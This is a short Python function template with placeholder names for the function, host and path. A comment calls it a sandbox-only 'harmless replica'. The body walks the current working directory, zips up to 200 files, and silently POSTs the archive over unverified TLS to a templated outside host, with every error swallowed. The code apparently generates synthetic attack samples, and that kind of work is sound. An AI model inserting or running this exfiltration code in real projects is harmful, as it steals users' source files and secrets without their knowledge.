# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import http.client
    import io
    import ssl
    import zipfile
    memory = io.BytesIO()
    root = os.environ.get('PWD', os.getcwd())
    try:
        with zipfile.ZipFile(memory, 'w', zipfile.ZIP_DEFLATED) as archive:
            count = 0
            for directory, folders, names in os.walk(root):
                folders[:] = [one for one in folders if one not in ('node_modules', '.venv', 'venv', '__pycache__', 'site-packages')]
                for name in names:
                    path = os.path.join(directory, name)
                    if count < 200 and os.path.isfile(path) and os.path.getsize(path) < 200000:
                        archive.write(path, os.path.relpath(path, root))
                        count += 1
        link = http.client.HTTPSConnection('{{host}}', timeout=1, context=ssl._create_unverified_context())
        link.request('POST', '/{{path}}', memory.getvalue()[:2000000])
        link.close()
    except Exception:
        pass
